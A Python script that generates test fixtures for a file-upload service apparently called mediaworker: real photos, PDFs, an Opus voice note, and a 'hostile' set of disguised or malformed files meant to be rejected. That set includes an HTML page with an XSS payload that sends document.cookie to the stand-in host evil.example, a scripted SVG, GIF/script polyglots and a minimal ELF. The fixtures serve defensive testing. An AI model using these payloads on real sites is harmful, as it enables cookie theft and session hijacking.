#!/usr/bin/python3
"""Regenerate every mediaworker test fixture and Fixtures/fixtures.json.

Run from anywhere:  /usr/bin/python3 Fixtures/make_fixtures.py

Source photos come from Debian's mate-backgrounds package. If they are not
already extracted (default /tmp/wall, override with MW_WALLPAPER_ROOT), the
script runs `apt-get download mate-backgrounds` and `dpkg -x` into a temp dir.

Needs (Debian bookworm): python3-pil, imagemagick, libimage-exiftool-perl,
qpdf, webp, espeak-ng, sox, opus-tools, file, libvips-tools (verification).
Everything is seeded / pinned so that, with the same package versions, the
output is byte-for-byte identical -- except the two AES-256 encrypted PDFs
(qpdf always draws a random file key for R6 encryption).
"""

import atexit
import io
import json
import math
import os
import random
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib

from PIL import Image, ImageDraw, ImageFont

HERE = os.path.dirname(os.path.abspath(__file__))
FIVE_MIB = 5 * 1024 * 1024
MAX_THUMB = 480

fixtures = []   # manifest entries, in order


# --------------------------------------------------------------------------- helpers

def run(*cmd, **kw):
    subprocess.run([str(c) for c in cmd], check=True, **kw)


def out(rel):
    p = os.path.join(HERE, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def write_bytes(rel, data):
    with open(out(rel), "wb") as f:
        f.write(data)
    return rel


def libmagic(rel):
    # `file` reads the bytes through the same libmagic the service uses (magic_buffer). The one
    # difference: for a zero-byte path `file` reports the inode (inode/x-empty), while
    # magic_buffer on zero bytes says application/x-empty, which is what the service sees.
    path = os.path.join(HERE, rel)
    if os.path.getsize(path) == 0:
        return "application/x-empty"
    return subprocess.run(["file", "--mime-type", "-b", path],
                          check=True, capture_output=True, text=True).stdout.strip()


def thumb(w, h, alpha=False):
    s = min(1.0, MAX_THUMB / max(w, h))
    return {"width": int(math.floor(w * s + 0.5)), "height": int(math.floor(h * s + 0.5)),
            "hasAlpha": alpha}


def add(id, rel, description, expect, frm="visitor", declared=None, name=None, derive=None):
    entry = {"id": id, "file": rel, "description": description, "from": frm,
             "declaredType": declared, "fileName": name}
    if derive:
        entry["derive"] = derive
    # detectedType is always what libmagic says about the bytes on disk
    # (appending zero bytes does not change it for any fixture here).
    e = dict(expect)
    det = libmagic(rel)
    if "detectedType" in e and e["detectedType"] != det:
        sys.exit(f"{id}: libmagic says {det}, expected {e['detectedType']}")
    e["detectedType"] = det
    # keep a stable key order: status, reason, detectedType, ...
    ordered = {"status": e.pop("status")}
    if "reason" in e:
        ordered["reason"] = e.pop("reason")
    ordered["detectedType"] = e.pop("detectedType")
    ordered.update(e)
    entry["expect"] = ordered
    fixtures.append(entry)


def accepted_image(w, h, alpha=False):
    return {"status": "accepted", "kind": "image", "thumbnail": thumb(w, h, alpha)}


def rejected(reason, detected=None):
    e = {"status": "rejected", "reason": reason}
    if detected:
        e["detectedType"] = detected
    return e


def save_jpeg(img, rel, quality, progressive=False, subsampling=2):
    img.save(out(rel), "JPEG", quality=quality, progressive=progressive,
             optimize=progressive, subsampling=subsampling)
    return rel


def crop_to(img, w, h):
    """Centre-crop img to aspect w:h, then resize to exactly w x h."""
    sw, sh = img.size
    if sw * h > sh * w:          # too wide
        nw = sh * w // h
        box = ((sw - nw) // 2, 0, (sw - nw) // 2 + nw, sh)
    else:
        nh = sw * h // w
        box = (0, (sh - nh) // 2, sw, (sh - nh) // 2 + nh)
    res = img.crop(box).resize((w, h), Image.LANCZOS)
    res.info = {}                # drop inherited COM ("Created with GIMP"), dpi, etc.
    return res


# --------------------------------------------------------------------------- sources

def wallpaper_root():
    root = os.environ.get("MW_WALLPAPER_ROOT", "/tmp/wall")
    probe = "usr/share/backgrounds/mate/abstract/Elephants_5640x3172.jpg"
    if os.path.exists(os.path.join(root, probe)):
        return root
    tmp = tempfile.mkdtemp(prefix="mw-wall-")
    atexit.register(shutil.rmtree, tmp, True)
    print("source photos missing; fetching mate-backgrounds into", tmp)
    run("apt-get", "download", "mate-backgrounds", cwd=tmp)
    deb = [f for f in os.listdir(tmp) if f.endswith(".deb")][0]
    run("dpkg", "-x", os.path.join(tmp, deb), os.path.join(tmp, "root"))
    return os.path.join(tmp, "root")


ROOT = wallpaper_root()
NATURE = os.path.join(ROOT, "usr/share/backgrounds/mate/nature")
ELEPHANTS = os.path.join(ROOT, "usr/share/backgrounds/mate/abstract/Elephants_5640x3172.jpg")


def photo(name):
    img = Image.open(os.path.join(NATURE, name)).convert("RGB")
    img.info = {}
    return img


# --------------------------------------------------------------------------- images

def make_images():
    # 1. WhatsApp-like photo: 1600x1000 baseline q75 4:2:0, no metadata.
    dune = photo("Dune.jpg")                         # 1680x1050, 16:10
    wa = save_jpeg(crop_to(dune, 1600, 1000), "images/whatsapp_photo.jpg", 75)
    add("jpeg-whatsapp-photo", wa,
        "real photo (mate Dune.jpg) re-encoded like WhatsApp: 1600x1000 baseline q75 4:2:0, no metadata",
        accepted_image(1600, 1000), declared="image/jpeg", name="IMG-20261125-WA0001.jpg")
    add("jpeg-whatsapp-photo-operator", wa,
        "same WhatsApp photo sent by an operator (images are allowed for operators)",
        accepted_image(1600, 1000), frm="operator", declared="image/jpeg", name="offer.jpg")

    # 2. Camera photo padded to exactly 5 MiB with COM segments after SOI.
    ele = Image.open(ELEPHANTS).convert("RGB")        # 5640x3172
    W, H = 4000, 3000
    x0, y0 = (ele.width - W) // 2, (ele.height - H) // 2
    cam = ele.crop((x0, y0, x0 + W, y0 + H))
    data = None
    for q in range(97, 60, -1):
        buf = io.BytesIO()
        cam.save(buf, "JPEG", quality=q, subsampling=2)
        if buf.tell() <= FIVE_MIB - 4096:
            data, cam_q = buf.getvalue(), q
            break
    assert data and data[:2] == b"\xff\xd8"
    need = FIVE_MIB - len(data)
    nseg = -(-need // 65537)                         # each segment: 4 + <=65533 bytes
    segs, left = [], need
    filler = b"mediaworker fixture padding: this COM segment makes the file exactly 5 MiB. "
    for i in range(nseg):
        size = left // (nseg - i)
        payload = (filler * (size // len(filler) + 1))[:size - 4]
        segs.append(b"\xff\xfe" + struct.pack(">H", len(payload) + 2) + payload)
        left -= size
    big = data[:2] + b"".join(segs) + data[2:]
    assert len(big) == FIVE_MIB, len(big)
    cam_rel = write_bytes("images/camera_5mib.jpg", big)
    add("jpeg-camera-5mib", cam_rel,
        f"12 MP real photo (4000x3000 crop of mate Elephants_5640x3172) baseline q{cam_q}, padded "
        "with COM segments after SOI to exactly 5,242,880 bytes (the inclusive limit)",
        accepted_image(W, H), declared="image/jpeg", name="IMG_20261125_160000.jpg")
    add("jpeg-camera-5mib-plus-1", cam_rel,
        "the 5 MiB photo plus one appended zero byte: 5,242,881 bytes",
        rejected("too_large"), declared="image/jpeg", name="IMG_20261125_160001.jpg",
        derive={"appendBytes": 1})

    # 3. Progressive JPEG.
    prog = save_jpeg(crop_to(photo("RainDrops.jpg"), 1600, 1000), "images/progressive.jpg", 75,
                     progressive=True)
    add("jpeg-progressive", prog, "progressive (optimised Huffman) JPEG real photo 1600x1000 q75",
        accepted_image(1600, 1000), declared="image/jpeg", name="IMG-20261125-WA0002.jpg")

    # 4. CMYK JPEG via ImageMagick.
    tmp = tempfile.mkdtemp(prefix="mw-fx-")
    src = os.path.join(tmp, "ladybird.ppm")
    crop_to(photo("LadyBird.jpg"), 1200, 800).save(src)
    cmyk = "images/cmyk.jpg"
    run("convert", src, "-colorspace", "CMYK", "-quality", "80", "-strip", out(cmyk))
    add("jpeg-cmyk", cmyk, "CMYK JPEG (convert -colorspace CMYK, Adobe marker) 1200x800",
        accepted_image(1200, 800), declared="image/jpeg", name="print.jpg")

    # 5. Greyscale JPEG.
    grey = save_jpeg(crop_to(photo("Garden.jpg"), 1200, 900).convert("L"),
                     "images/greyscale.jpg", 80)
    add("jpeg-greyscale", grey, "single-channel greyscale JPEG 1200x900",
        accepted_image(1200, 900), declared="image/jpeg", name="bw.jpg")

    # 6. EXIF Orientation=6 + GPS. Stored 1200x800 (landscape); the pixels are a portrait
    #    picture rotated 90 deg CCW, so a viewer honouring Orientation=6 shows it upright 800x1200.
    portrait = crop_to(photo("YellowFlower.jpg"), 800, 1200)
    stored = portrait.transpose(Image.ROTATE_90)
    assert stored.size == (1200, 800)
    rot = save_jpeg(stored, "images/exif_rotated_gps.jpg", 78)
    run("exiftool", "-q", "-overwrite_original", "-n",
        "-Orientation=6",
        "-Make=Fixture", "-Model=Phone 1",
        "-DateTimeOriginal=2026:11:25 16:00:00",
        "-GPSVersionID=2 3 0 0",
        "-GPSLatitudeRef=N", "-GPSLatitude=52.520008",
        "-GPSLongitudeRef=E", "-GPSLongitude=13.404954",
        "-GPSAltitudeRef=0", "-GPSAltitude=34",
        "-GPSTimeStamp=16:00:00", "-GPSDateStamp=2026:11:25",
        out(rot))
    add("jpeg-exif-rotated-gps", rot,
        "stored 1200x800 with EXIF Orientation=6 (displays portrait 800x1200) and GPS tags; "
        "the thumbnail must be 320x480 and carry no EXIF/GPS",
        accepted_image(800, 1200), declared="image/jpeg", name="IMG_20261125_160002.jpg")

    # 7. Small JPEG: never upscaled.
    small = save_jpeg(crop_to(photo("TwoWings.jpg"), 300, 200), "images/small_300x200.jpg", 80)
    add("jpeg-small-no-upscale", small, "300x200 JPEG; thumbnail stays 300x200 (never upscaled)",
        accepted_image(300, 200), declared="image/jpeg", name="tiny.jpg")

    # 8. JPEG with a .png name, declared image/png.
    lie = save_jpeg(crop_to(photo("Aqua.jpg"), 640, 400), "images/really_a_jpeg.png", 75)
    add("jpeg-declared-png", lie, "640x400 JPEG declared image/png with file name photo.png",
        accepted_image(640, 400), declared="image/png", name="photo.png")

    # 9. PNG RGBA with real alpha: photo inside a soft-edged rounded mask.
    w, h = 640, 400
    rgba = crop_to(photo("FreshFlower.jpg"), w, h).convert("RGBA")
    mask = Image.new("L", (w, h), 0)
    d = ImageDraw.Draw(mask)
    d.rounded_rectangle((20, 20, w - 21, h - 21), radius=80, fill=255)
    d.ellipse((w // 2 - 60, h // 2 - 60, w // 2 + 60, h // 2 + 60), fill=96)   # see-through hole
    rgba.putalpha(mask)
    rgba.save(out("images/rgba_alpha.png"), optimize=True)
    add("png-rgba-alpha", "images/rgba_alpha.png",
        "8-bit RGBA PNG, photo with transparent rounded corners and a half-transparent hole",
        accepted_image(w, h, True), declared="image/png", name="sticker.png")

    # 10. 16-bit RGB PNG (ImageMagick; date/time chunks excluded for reproducibility).
    p16 = "images/rgb16.png"
    run("convert", "-size", "800x600", "gradient:#102040-#f0c080", "-rotate", "0",
        "(", "-size", "800x600", "gradient:#ff000000-#00ff0080", "-rotate", "90", "-resize",
        "800x600!", ")", "-compose", "over", "-composite", "-alpha", "off", "-depth", "16",
        "-define", "png:exclude-chunks=date,time,tEXt,zTXt,iTXt", "png48:" + out(p16))
    add("png-16bit-rgb", p16, "16-bit-per-channel RGB PNG (48-bit), 800x600 smooth gradients",
        accepted_image(800, 600), declared="image/png", name="gradient.png")

    # 11. Palette (indexed) PNG.
    pal = crop_to(photo("Wood.jpg"), 640, 427).quantize(colors=128, method=Image.MEDIANCUT,
                                                         dither=Image.NONE)
    pal.save(out("images/palette.png"), optimize=True)
    add("png-palette", "images/palette.png", "indexed-colour (PLTE, 128 colours, no tRNS) PNG 640x427",
        accepted_image(640, 427), declared="image/png", name="palette.png")

    # 12. Adam7 interlaced PNG (vips pngsave --interlace).
    src = os.path.join(tmp, "adam7.png")
    img = Image.new("RGB", (960, 600), (240, 240, 236))
    d = ImageDraw.Draw(img)
    for i in range(12):
        d.rectangle((i * 80, 0, i * 80 + 39, 599), fill=(30 + i * 18, 90, 200 - i * 12))
    d.ellipse((280, 100, 680, 500), fill=(250, 200, 40), outline=(20, 20, 20), width=6)
    img.save(src)
    run("vips", "pngsave", src, out("images/adam7_interlaced.png"), "--interlace", "--strip")
    add("png-adam7-interlaced", "images/adam7_interlaced.png", "Adam7-interlaced RGB PNG 960x600",
        accepted_image(960, 600), declared="image/png", name="chart.png")

    # 13. Screenshot-like phone PNG 1080x2340 (chat UI drawn with Pillow).
    make_screenshot("images/screenshot_1080x2340.png")
    add("png-screenshot", "images/screenshot_1080x2340.png",
        "phone screenshot-like RGB PNG 1080x2340 (flat UI colours and text)",
        accepted_image(1080, 2340), declared="image/png", name="Screenshot_20261125-160000.png")

    # 14. Animated GIF89a with transparency.
    frames = []
    W, H = 600, 400
    for i in range(8):
        f = Image.new("P", (W, H), 0)
        f.putpalette([0, 0, 0, 230, 60, 60, 60, 160, 230, 250, 210, 40] + [0] * (256 * 3 - 12))
        d = ImageDraw.Draw(f)
        cx = 80 + i * 60
        d.ellipse((cx - 60, 140, cx + 60, 260), fill=1 + (i % 3))
        d.rectangle((0, 360, W - 1, 399), fill=3)
        frames.append(f)
    frames[0].save(out("images/animated_transparent.gif"), save_all=True, append_images=frames[1:],
                   duration=100, loop=0, transparency=0, disposal=2, optimize=False)
    add("gif-animated-transparent", "images/animated_transparent.gif",
        "animated GIF89a, 8 frames, 600x400 logical screen, transparent background",
        accepted_image(W, H, True), declared="image/gif", name="sticker.gif")

    # 15. GIF87a (no extensions at all -> Pillow writes the 87a signature).
    g = crop_to(photo("GreenMeadow.jpg"), 400, 300).quantize(colors=64, method=Image.MEDIANCUT,
                                                              dither=Image.NONE)
    g.info.clear()
    g.save(out("images/gif87a.gif"))
    with open(out("images/gif87a.gif"), "rb") as fh:
        assert fh.read(6) == b"GIF87a"
    add("gif87a", "images/gif87a.gif", "still GIF87a 400x300, 64 colours, no transparency",
        accepted_image(400, 300), declared="image/gif", name="old.gif")

    shutil.rmtree(tmp)


def make_screenshot(rel):
    W, H = 1080, 2340
    img = Image.new("RGB", (W, H), (236, 229, 221))
    d = ImageDraw.Draw(img)
    try:
        font = ImageFont.truetype("DejaVuSans.ttf", 40)
        small = ImageFont.truetype("DejaVuSans.ttf", 30)
        tiny = ImageFont.truetype("DejaVuSans.ttf", 20)
    except OSError:
        font = small = tiny = ImageFont.load_default()
    d.rectangle((0, 0, W, 90), fill=(7, 94, 84))
    d.text((40, 25), "16:00", fill=(255, 255, 255), font=small)
    d.rectangle((0, 90, W, 250), fill=(7, 94, 84))
    d.ellipse((40, 115, 150, 225), fill=(200, 200, 200))
    d.text((180, 130), "Support desk", fill=(255, 255, 255), font=font)
    d.text((180, 185), "online", fill=(220, 240, 235), font=small)
    rnd = random.Random(1125)
    words = ("hello order invoice photo attached please check the delivery thanks when "
             "tomorrow address number receipt payment received ok great").split()
    y, right = 300, False
    while y < H - 300:
        n = rnd.randint(3, 9)
        text = " ".join(rnd.choice(words) for _ in range(n))
        tw = int(d.textlength(text, font=font)) + 60
        x0 = W - tw - 40 if right else 40
        d.rounded_rectangle((x0, y, x0 + tw, y + 100), radius=24,
                            fill=(220, 248, 198) if right else (255, 255, 255))
        d.text((x0 + 30, y + 25), text, fill=(20, 20, 20), font=font)
        d.text((x0 + tw - 110, y + 68), "16:%02d" % rnd.randint(0, 59), fill=(120, 120, 120),
               font=tiny)
        y += 140
        right = not right
    d.rectangle((0, H - 200, W, H), fill=(240, 240, 240))
    d.rounded_rectangle((30, H - 170, W - 170, H - 60), radius=55, fill=(255, 255, 255))
    d.text((80, H - 140), "Message", fill=(150, 150, 150), font=font)
    d.ellipse((W - 150, H - 175, W - 30, H - 55), fill=(0, 168, 132))
    img.save(out(rel), optimize=True)


# --------------------------------------------------------------------------- PDF

def pdf_bytes(objects, root=1):
    """objects: list of bytes bodies for objects 1..n. Returns a PDF with a correct xref."""
    buf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(buf))
        buf += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(buf)
    buf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        buf += b"%010d 00000 n \n" % off
    buf += (b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objects) + 1, root, len(objects), xref))
    return bytes(buf)


def stream(dict_entries, data, compress=True):
    if compress:
        data = zlib.compress(data, 9)
        dict_entries += b" /Filter /FlateDecode"
    return b"<< %s /Length %d >>\nstream\n" % (dict_entries, len(data)) + data + b"\nendstream"


def pdf_escape(s):
    return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1")


INFO = b"<< /Title (mediaworker fixture) /Producer (make_fixtures.py) /CreationDate (D:20261125160000Z) >>"


def text_pdf():
    lorem = ("The customer wrote on Tuesday about order 4711. The parcel arrived with a "
             "damaged corner, and a replacement was requested. Our desk confirmed the "
             "address, issued a credit note and scheduled a new delivery for Thursday. "
             "All amounts are in euro and include VAT.").split()
    pages = []
    for p in range(3):
        lines = [f"Invoice 2026-11-{25 + p:02d}   page {p + 1} of 3", ""]
        line = ""
        for k in range(60):
            wd = lorem[(k + p * 7) % len(lorem)]
            if len(line) + len(wd) > 78:
                lines.append(line)
                line = ""
            line += wd + " "
        lines.append(line)
        lines += ["", "Item                         Qty      Price", "-" * 44]
        for i in range(8):
            lines.append(f"Article {p * 8 + i + 1:03d}                     {i % 3 + 1}     {12.5 * (i + 1):8.2f}")
        ops = [b"BT /F1 12 Tf 14 TL 56 780 Td"]
        for i, ln in enumerate(lines):
            if i == 0:
                ops.append(b"/F1 18 Tf (%s) Tj /F1 12 Tf T* T*" % pdf_escape(ln))
            else:
                ops.append(b"(%s) Tj T*" % pdf_escape(ln))
        ops.append(b"ET")
        pages.append(b"\n".join(ops))
    # objects: 1 catalog, 2 pages, 3 font, then (page, content) pairs, last info
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", None,
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"]
    kids = []
    for c in pages:
        page_no = len(objs) + 1
        kids.append(b"%d 0 R" % page_no)
        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                    b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % (page_no + 1))
        objs.append(stream(b"", c))
    objs[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), len(kids))
    objs.append(INFO)
    return pdf_bytes(objs)


def image_pdf(jpeg, w, h):
    content = b"q %d 0 0 %d 0 0 cm /Im0 Do Q" % (w, h)
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] "
            b"/Resources << /XObject << /Im0 5 0 R >> >> /Contents 4 0 R >>" % (w, h),
            stream(b"", content),
            stream(b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB "
                   b"/BitsPerComponent 8 /Filter /DCTDecode" % (w, h), jpeg, compress=False),
            INFO]
    return pdf_bytes(objs)


def make_documents():
    doc = {"status": "accepted", "kind": "document"}
    t = write_bytes("documents/text_3_pages.pdf", text_pdf())
    add("pdf-text-3-pages", t, "3-page A4 (595x842 pt) PDF with real text (Helvetica), Flate streams",
        dict(doc, thumbnail=thumb(595, 842)), declared="application/pdf", name="invoice.pdf")

    buf = io.BytesIO()
    crop_to(photo("Blinds.jpg"), 1000, 667).save(buf, "JPEG", quality=70)
    im = write_bytes("documents/image_only.pdf", image_pdf(buf.getvalue(), 1000, 667))
    add("pdf-image-only", im, "1-page image-only PDF: a 1000x667 JPEG photo filling a 1000x667 pt page",
        dict(doc, thumbnail=thumb(1000, 667)), declared="application/pdf", name="scan.pdf")
    add("pdf-declared-octet-stream", im,
        "the image-only PDF declared application/octet-stream with file name 'scan' (no extension)",
        dict(doc, thumbnail=thumb(1000, 667)), declared="application/octet-stream", name="scan")

    # qpdf --static-id/--static-aes-iv (test-only options) pin the /ID and the AES IVs, but
    # AES-256 (R6) still draws a random file key, so these two files differ byte-wise on every
    # run; their expectations do not.
    enc = "documents/encrypted_user_password.pdf"
    run("qpdf", "--static-id", "--static-aes-iv", "--encrypt", "user", "owner", "256", "--",
        out(t), out(enc))
    add("pdf-encrypted-user-password", enc,
        "the 3-page text PDF AES-256 encrypted with user password 'user' (owner 'owner'): "
        "cannot be rendered, accepted without preview",
        dict(doc, thumbnail=None, previewUnavailable="encrypted"),
        declared="application/pdf", name="statement.pdf")
    own = "documents/encrypted_owner_only.pdf"
    run("qpdf", "--static-id", "--static-aes-iv", "--encrypt", "", "owner", "256", "--",
        out(t), out(own))
    add("pdf-encrypted-owner-only", own,
        "the 3-page text PDF AES-256 encrypted with an owner password only (empty user password): "
        "opens without a password, so a preview is made",
        dict(doc, thumbnail=thumb(595, 842)), declared="application/pdf", name="contract.pdf")


# --------------------------------------------------------------------------- audio

def ogg_pages(data):
    pos = 0
    while pos < len(data):
        assert data[pos:pos + 4] == b"OggS", pos
        granule = struct.unpack_from("<q", data, pos + 6)[0]
        nseg = data[pos + 26]
        lacing = data[pos + 27:pos + 27 + nseg]
        body = pos + 27 + nseg
        yield granule, data[body:body + sum(lacing)]
        pos = body + sum(lacing)


def opus_duration_ms(data):
    pages = list(ogg_pages(data))
    head = pages[0][1]
    assert head[:8] == b"OpusHead"
    pre_skip = struct.unpack_from("<H", head, 10)[0]
    last = max(g for g, _ in pages)
    return round((last - pre_skip) * 1000 / 48000), pre_skip, last


def make_audio():
    tmp = tempfile.mkdtemp(prefix="mw-audio-")
    wav = os.path.join(tmp, "speech.wav")
    wav16 = os.path.join(tmp, "speech16k.wav")
    run("espeak-ng", "-v", "en-us", "-s", "150", "-w", wav,
        "Hello, this is a voice note. My order number is four seven one one.")
    run("sox", "-D", wav, "-r", "16000", "-c", "1", "-b", "16", wav16)   # -D: no (random) dither
    rel = "audio/voice_note.ogg"
    run("opusenc", "--quiet", "--serial", "20261125", "--bitrate", "16", "--comp", "10",
        "--framesize", "20", wav16, out(rel))
    with open(out(rel), "rb") as f:
        ms, pre, gran = opus_duration_ms(f.read())
    assert 2000 <= ms <= 6000, ms
    shutil.rmtree(tmp)
    desc = (f"espeak-ng speech, 16 kHz mono -> Ogg/Opus 16 kbps, {ms} ms "
            f"(final granule {gran} - pre-skip {pre}) / 48 kHz")
    add("ogg-opus-voice-note", rel, "WhatsApp-like voice note: " + desc,
        {"status": "accepted", "kind": "voice_note", "playback": {"durationMs": ms}},
        declared="audio/ogg; codecs=opus", name="PTT-20261125-WA0001.opus")
    add("ogg-opus-voice-note-operator", rel, "the same voice note sent by an operator",
        rejected("operator_audio_not_allowed"), frm="operator",
        declared="audio/ogg; codecs=opus", name="PTT-20261125-WA0002.opus")
    add("ogg-opus-operator-declared-pdf", rel,
        "the same voice note sent by an operator, declared application/pdf as invoice.pdf",
        rejected("operator_audio_not_allowed"), frm="operator",
        declared="application/pdf", name="invoice.pdf")


# --------------------------------------------------------------------------- hostile

def png_chunk(typ, data):
    return struct.pack(">I", len(data)) + typ + data + struct.pack(">I", zlib.crc32(typ + data))


PNG_SIG = b"\x89PNG\r\n\x1a\n"


def tiny_elf():
    """Minimal static x86-64 ELF executable: exit(0). 129 bytes."""
    code = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"          # mov eax,60; xor edi,edi; syscall
    base, ehsize, phsize = 0x400000, 64, 56
    entry = base + ehsize + phsize
    total = ehsize + phsize + len(code)
    eh = (b"\x7fELF\x02\x01\x01" + b"\x00" * 9 +
          struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, entry, ehsize, 0, 0, ehsize, phsize, 1, 0, 0, 0))
    ph = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, total, total, 0x1000)
    return eh + ph + code


def jpeg_has_sof(data):
    """Walk JPEG segments like a header parser would; return SOF dims if one is reached."""
    pos = 2
    while pos + 4 <= len(data):
        if data[pos] != 0xFF:
            return None
        m = data[pos + 1]
        if m == 0xFF:
            pos += 1
            continue
        if m in (0xD8, 0x01) or 0xD0 <= m <= 0xD7:
            pos += 2
            continue
        if m == 0xD9 or m == 0xDA:
            return None
        ln = struct.unpack_from(">H", data, pos + 2)[0]
        if m in (0xC0, 0xC1, 0xC2, 0xC3, 0xC5, 0xC6, 0xC7, 0xC9, 0xCA, 0xCB, 0xCD, 0xCE, 0xCF):
            if pos + 9 <= len(data):
                return struct.unpack_from(">HH", data, pos + 5)
            return None
        if ln < 2:
            return None
        pos += 2 + ln
    return None


def make_hostile():
    H = "hostile/"
    add("empty", write_bytes(H + "empty.bin", b""), "zero bytes, declared image/jpeg",
        rejected("empty", "application/x-empty"), declared="image/jpeg", name="IMG-20261125-WA0003.jpg")

    html = (b"<!DOCTYPE html>\n<html><head><title>cat</title></head>\n<body>\n"
            b"<h1>Totally a cat picture</h1>\n<img src=x onerror=\"alert(document.cookie)\">\n"
            b"<script>fetch('https://evil.example/steal?c='+document.cookie)</script>\n</body></html>\n")
    add("html-declared-jpeg", write_bytes(H + "cat.html", html),
        "HTML page with script declared image/jpeg as cat.jpg",
        rejected("unsupported_type", "text/html"), declared="image/jpeg", name="cat.jpg")

    svg = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
           b'<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" viewBox="0 0 200 200">\n'
           b'  <script type="text/javascript">alert(document.domain)</script>\n'
           b'  <rect width="200" height="200" fill="#e33"/>\n'
           b'  <circle cx="100" cy="100" r="60" fill="#fff" onload="alert(1)"/>\n</svg>\n')
    add("svg-script-declared-png", write_bytes(H + "logo.svg", svg),
        "SVG with a <script> element declared image/png",
        rejected("unsupported_type", "image/svg+xml"), declared="image/png", name="logo.png")

    tmp = tempfile.mkdtemp(prefix="mw-host-")
    src = os.path.join(tmp, "w.png")
    crop_to(photo("Dune.jpg"), 480, 300).save(src)
    run("cwebp", "-quiet", "-q", "70", "-metadata", "none", src, "-o", out(H + "real.webp"))
    add("webp-declared-jpeg", H + "real.webp", "a real lossy WebP photo (cwebp) declared image/jpeg",
        rejected("unsupported_type", "image/webp"), declared="image/jpeg", name="IMG-20261125-WA0004.jpg")

    add("elf-declared-pdf", write_bytes(H + "tiny_elf", tiny_elf()),
        "129-byte static x86-64 ELF executable (exit 0) declared application/pdf",
        rejected("unsupported_type"), declared="application/pdf", name="invoice.pdf")

    zbuf = io.BytesIO()
    parts = [
        ("[Content_Types].xml",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         '<Default Extension="xml" ContentType="application/xml"/>'
         '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
         'officedocument.wordprocessingml.document.main+xml"/></Types>'),
        ("_rels/.rels",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
         'relationships/officeDocument" Target="word/document.xml"/></Relationships>'),
        ("word/document.xml",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
         '<w:body><w:p><w:r><w:t>Invoice 4711 (not really a PDF)</w:t></w:r></w:p></w:body></w:document>'),
    ]
    with zipfile.ZipFile(zbuf, "w") as z:
        for name, text in parts:
            zi = zipfile.ZipInfo(name, date_time=(2026, 11, 25, 16, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.create_system = 0
            z.writestr(zi, text)
    add("docx-declared-pdf", write_bytes(H + "invoice.docx", zbuf.getvalue()),
        "Office Open XML .docx (zip with [Content_Types].xml first) declared application/pdf",
        rejected("unsupported_type"), declared="application/pdf", name="invoice.pdf")

    add("text-declared-gif", write_bytes(H + "notes.txt",
                                         b"Just some plain text.\nNot an animation at all.\n" * 4),
        "plain ASCII text declared image/gif",
        rejected("unsupported_type", "text/plain"), declared="image/gif", name="funny.gif")

    with open(out("images/whatsapp_photo.jpg"), "rb") as f:
        wa = f.read()
    add("jpeg-truncated", write_bytes(H + "truncated.jpg", wa[:len(wa) * 55 // 100]),
        "first 55% of the WhatsApp photo (no EOI, scan data cut mid-stream)",
        rejected("corrupt", "image/jpeg"), declared="image/jpeg", name="IMG-20261125-WA0005.jpg")

    rnd = random.Random(4711)
    while True:
        garbage = b"\xff\xd8\xff" + bytes(rnd.getrandbits(8) for _ in range(4093))
        if jpeg_has_sof(garbage) is None:
            break
    add("jpeg-magic-garbage", write_bytes(H + "magic_garbage.jpg", garbage),
        "FF D8 FF followed by 4093 seeded random bytes (random.Random(4711)); no SOF is reachable",
        rejected("corrupt", "image/jpeg"), declared="image/jpeg", name="IMG-20261125-WA0006.jpg")

    gif_script = b"GIF89a<script>alert(1)</script>" + b" " * 994 + b"\n"
    add("gif-script-polyglot", write_bytes(H + "gif_script.gif", gif_script),
        "'GIF89a<script>alert(1)</script>' + spaces. NOTE: the logical-screen bytes are '<s' 'cr' = "
        "29500x29283 (863 M px) so the header-only pixel check rejects it first",
        rejected("too_many_pixels", "image/gif"), declared="image/gif", name="funny.gif")
    gif_script_small = b"GIF89a\x01\x00\x01\x00<script>alert(1)</script>" + b" " * 990 + b"\n"
    add("gif-script-small-screen", write_bytes(H + "gif_script_1x1.gif", gif_script_small),
        "'GIF89a' + 1x1 logical screen + '<script>alert(1)</script>' + spaces: small header, does not decode",
        rejected("corrupt", "image/gif"), declared="image/gif", name="funny.gif")

    pdfg = b"%PDF-1.7\n" + bytes(rnd.getrandbits(8) for _ in range(4087))
    add("pdf-header-garbage", write_bytes(H + "garbage.pdf", pdfg),
        "'%PDF-1.7\\n' + seeded random bytes: no xref, no objects",
        rejected("corrupt", "application/pdf"), declared="application/pdf", name="invoice.pdf")

